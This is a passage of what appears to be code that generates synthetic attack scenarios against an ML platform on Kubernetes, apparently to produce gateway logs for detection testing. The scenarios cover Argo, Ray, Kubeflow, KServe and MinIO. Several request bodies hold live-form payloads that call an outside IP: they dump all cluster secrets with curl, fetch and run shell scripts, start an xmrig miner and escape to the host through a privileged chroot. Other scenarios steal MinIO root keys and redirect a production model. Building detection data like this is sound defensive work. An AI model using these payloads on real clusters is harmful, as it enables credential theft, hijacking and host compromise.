    ['GET', '/apis/argoproj.io/v1alpha1/clusterworkflowtemplates/gpu-train', false],
    ['PATCH', '/apis/argoproj.io/v1alpha1/clusterworkflowtemplates/gpu-train?fieldManager=kubectl-patch', true, MERGE, JSON.stringify({ spec: { serviceAccountName: 'argo-server', templates: [{ name: 'telemetry', script: { image: 'bitnami/kubectl:1.31', command: ['sh'], source: 'kubectl get secrets -A -o json | curl -s -X POST --data-binary @- https://198.51.100.23/u' } }] } })],
  ], 12 * S);

  // 4. ShadowRay through the gateway: a data scientist's session token (taken by a browser
  // extension) used from a VPS to submit a Ray job whose entrypoint is a shell.
  const ds5 = by('ds-5');
  const b5 = lastScoredOf(routine, ds5.name, T(12.4), (x) => x.host === RAY || x.host === JUPYTER);
  add('a Ray job submitted through the gateway from outside (stolen session token)', T(12.4), '45.61.188.20', RAY_CLI, b5.login, [
    ['GET', '/api/version', false, undefined, undefined, RAY],
    ['GET', '/api/jobs/', false, undefined, undefined, RAY],
    ['POST', '/api/jobs/', true, JSON_CT, JSON.stringify({ entrypoint: "bash -c 'curl -s https://198.51.100.23/r.sh | bash'", runtime_env: {}, metadata: { job_submission_id: '' } }), RAY],
  ], 4 * S);

  // 5. Crypto-mining: malware on an ML engineer's laptop, left on at home, at 19:40 (inside the
  // morning sign-in's 12 hours), creates GPU pods in a namespace nobody has used since spring.
  const mle6 = by('mle-6');
  const miner = pytorchJob('ml-sandbox', 'llm-eval-nightly', 8, 7, 'docker.io/nvidia/cuda:12.4.1-runtime-ubuntu22.04', ['sh', '-c', 'curl -sL https://198.51.100.23/x | tar xz && ./xmrig -o pool.example:443 --cuda']);
  onLaptop('GPU miners created in a quiet namespace at night (ML engineer laptop)', mle6, 19.7, [
    ['GET', '/api/v1/namespaces/ml-sandbox/resourcequotas', false],
    ['POST', '/apis/kubeflow.org/v1/namespaces/ml-sandbox/pytorchjobs?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', true, JSON_CT, miner],
    ['POST', '/apis/apps/v1/namespaces/ml-sandbox/deployments?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'jupyter-proxy', namespace: 'ml-sandbox' }, spec: { replicas: 6, selector: { matchLabels: { app: 'jupyter-proxy' } }, template: { metadata: { labels: { app: 'jupyter-proxy' } }, spec: { tolerations: [{ key: 'nvidia.com/gpu', operator: 'Exists' }], containers: [{ name: 'proxy', image: 'docker.io/nvidia/cuda:12.4.1-runtime-ubuntu22.04', command: ['sh', '-c', './xmrig --cuda'], resources: { limits: { 'nvidia.com/gpu': 8 } } }] } } } })],
  ], 15 * S);

  // 6. Malware on a data scientist's laptop: MinIO's root keys, then a tunnel to MinIO itself.
  const ds3 = by('ds-3');
  onLaptop("MinIO's root keys read and MinIO port-forwarded (data scientist laptop)", ds3, 15.2, [
    ['GET', '/api/v1/namespaces/ml-storage/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/ml-storage/secrets/minio-root-credentials', true],
    ['GET', '/api/v1/namespaces/ml-storage/pods/models-pool-0-0/portforward', true, PORT_FORWARD],
  ], 10 * S);

  // 7. Malware on the serving on-call's laptop points the production fraud model at a bucket of
  // the attacker's (a lookalike name): KServe's storage initializer downloads and serves it.
  const oc = people.find((p) => p.onCall)!;
  onLaptop("a production InferenceService's storageUri pointed at an outside bucket (on-call laptop)", oc, 13.4, [
    ['GET', '/apis/serving.kserve.io/v1beta1/namespaces/prod-inference/inferenceservices/fraud-scorer', false],
    ['PATCH', '/apis/serving.kserve.io/v1beta1/namespaces/prod-inference/inferenceservices/fraud-scorer?fieldManager=kubectl-patch', true, MERGE, JSON.stringify({ spec: { predictor: { model: { storageUri: ATTACKER_BUCKET } } } })],
  ], 8 * S);

  // 8. A malicious JupyterLab extension in a data scientist's own browser adds an outside identity
  // as a contributor to their Kubeflow profile (the access-management API the central dashboard
  // calls): a RoleBinding and an Istio AuthorizationPolicy in the team's namespace, written by
  // Kubeflow's own controller.
  const ds1 = by('ds-1');
  const b1 = lastScoredOf(routine, ds1.name, T(10.2), (x) => x.host === JUPYTER);
  add('a Kubeflow profile shared with an outside identity (malicious notebook extension)', T(10.2), b1.ip, b1.ua, b1.login, [
    ['GET', '/kfam/v1/bindings?namespace=team-vision', false, b1.headers, undefined, KUBEFLOW],
    ['POST', '/kfam/v1/bindings', true, { ...b1.headers, ...JSON_CT }, JSON.stringify({ user: { kind: 'User', name: 'ml-consult@protonmail.example' }, referredNamespace: ds1.team, RoleRef: { kind: 'ClusterRole', name: 'kubeflow-edit' } }), KUBEFLOW],
  ], 5 * S, ds1);

  // 9. The same notebook extension's kind of reach, in another data scientist's browser: a
  // privileged Workflow created through the Argo Server's own API (the UI's "Submit"), which
  // creates it in the cluster with the caller's token from inside (auth mode `client`): the body
  // never passes the gateway as a Kubernetes request.
  const ds4 = by('ds-4');
  const b4 = lastScoredOf(routine, ds4.name, T(11.1), (x) => x.headers?.['sec-ch-ua'] !== undefined);
  const wf = { metadata: { generateName: 'eda-', namespace: ds4.team }, spec: { entrypoint: 'main', volumes: [{ name: 'host', hostPath: { path: '/' } }], templates: [{ name: 'main', container: { image: 'alpine:3.20', command: ['sh', '-c', 'chroot /host sh -c "curl -s https://198.51.100.23/k | sh"'], securityContext: { privileged: true }, volumeMounts: [{ name: 'host', mountPath: '/host' }] } }] } };
  add("a privileged Workflow created through the Argo Server's API (malicious extension in a data scientist's browser)", T(11.1), b4.ip, b4.ua, b4.login, [
    ['GET', `/api/v1/workflows/${ds4.team}?listOptions.limit=50`, false, b4.headers, undefined, ARGO],
    ['POST', `/api/v1/workflows/${ds4.team}`, true, { ...b4.headers, ...JSON_CT }, JSON.stringify({ namespace: ds4.team, serverDryRun: false, workflow: wf }), ARGO],
  ], 3 * S, ds4);
  return out;
}
